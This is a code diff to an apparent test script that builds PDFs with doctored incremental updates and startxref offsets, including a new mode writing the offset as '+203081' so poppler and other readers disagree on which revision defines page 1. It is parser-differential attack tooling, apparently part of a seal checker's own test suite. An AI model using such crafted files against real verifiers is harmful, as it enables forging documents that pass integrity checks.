@@ -12,9 +12,11 @@
 // all: attack, and a22-S1 for PDFium: after the update, a revision F re-defining page 1 mid-line (`endobj 4 0 obj`, its
 // table, `startxref F %%EOF`), and the trailing startxref glued: `xstartxref`, a comment, the update's offset. sealcheck
 // and every substring search take the glued one (F is trailing bytes); PDFium takes only a whole word: F.
+// plus: no trailing bytes at all; the update's own `startxref` offset written `+203081`: sealcheck's lexer, pdf.js
+// (parseInt), PDFium and qpdf read the number; poppler's strToLongLong stops at the `+`: 0, and reconstructs.
 // modes: trigger (the trailing startxref only, on the real archive), attack (both), update (the update alone: the
 // control, TOTAL-PASSED, no reader rebuilds).
-//   npx tsx scripts/attack-s18/startxref-comment.ts <trigger|attack|update|all>   REAL=0 for samples/valid
+//   npx tsx scripts/attack-s18/startxref-comment.ts <trigger|attack|update|all|plus>   REAL=0 for samples/valid
 import { serialize } from "../../src/augment/writer.js";
 import { NumberAllocator } from "../../src/augment/writer.js";
 import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
@@ -25,7 +27,7 @@ import { save, tool, work } from "../attack36/lib.js";
 import { judge, latin, page1 } from "../attack-s16/lib.js";
 
 const mode = process.argv[2] ?? "attack";
-if (!["trigger", "attack", "update", "all"].includes(mode)) throw new Error("usage: <trigger|attack|update|all>");
+if (!["trigger", "attack", "update", "all", "plus"].includes(mode)) throw new Error("usage: <trigger|attack|update|all|plus>");
 const p = page1();
 const pdf = p.pdf;
 const doc = parsePdf(wholeSource(pdf), resolveLimits());
@@ -67,7 +69,7 @@ if (mode !== "trigger") {
   const offB = at;
   push(latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`));
   last = at;
-  push(latin(`xref\n${A} ${payload === "split" ? 3 : 2}\n${entry(offA)}${entry(offB)}${payload === "split" ? entry(offA2) : ""}trailer\n<< /Size ${payload === "split" ? A2 + 1 : B + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref\n${last}\n%%EOF\n`));
+  push(latin(`xref\n${A} ${payload === "split" ? 3 : 2}\n${entry(offA)}${entry(offB)}${payload === "split" ? entry(offA2) : ""}trailer\n<< /Size ${payload === "split" ? A2 + 1 : B + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref\n${mode === "plus" ? "+" : ""}${last}\n%%EOF\n`));
 }
 let glue = "";
 if (mode === "all") {
@@ -79,7 +81,7 @@ if (mode === "all") {
   push(latin(`xref\n${P} 1\n${entry(offF)}trailer\n<< /Size ${A2 + 1} ${carried.join(" ")} /Prev ${last} >>\nstartxref\n${xF}\n%%EOF\n`));
   glue = "x";
 }
-if (mode !== "update") push(latin(`${glue}startxref\n% the offset follows\n${last}\n%%EOF\n`));
+if (mode !== "update" && mode !== "plus") push(latin(`${glue}startxref\n% the offset follows\n${last}\n%%EOF\n`));
 const file = save(work(`s18-startxref-comment-${mode}${process.env.PAYLOAD ? `-${process.env.PAYLOAD}` : ""}`), "archive.pdf", Uint8Array.from(parts.flat()));
 judge(`startxref-comment ${mode}`, file);
 console.log(`== qpdf page ${P}: ${JSON.stringify(tool("qpdf", ["--show-object=" + P, file]).slice(0, 120))}`);
